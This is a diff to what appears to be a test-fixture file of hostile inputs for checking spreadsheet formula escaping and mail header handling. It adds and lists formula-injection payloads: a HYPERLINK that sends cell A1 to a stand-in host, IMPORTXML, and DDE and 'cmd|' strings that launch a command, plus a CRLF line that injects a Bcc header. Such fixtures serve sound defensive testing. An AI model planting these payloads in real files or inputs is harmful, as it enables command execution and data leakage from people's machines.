@@ -111,9 +111,13 @@ FORMULAS = (
     '=HYPERLINK("https://e.example/"&A1,"click")',
     '=IMPORTXML("https://e.example/","//a")',
     '=DDE("cmd";"/C calc";"x")',
-    '"=1+1',
+    " '=1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    '+"x"',
 )
-"""Twenty cells that a spreadsheet would work out."""
+"""Cells that a spreadsheet would work out, bare or behind the guard of another."""
+QUOTED = '"=1+1'
+"""A text, unless quotes are written or read carelessly."""
 TELEPHONE = "+81 3 1234 5678"
 BREAKS = (
     "\r\nBcc: evil@e.example",
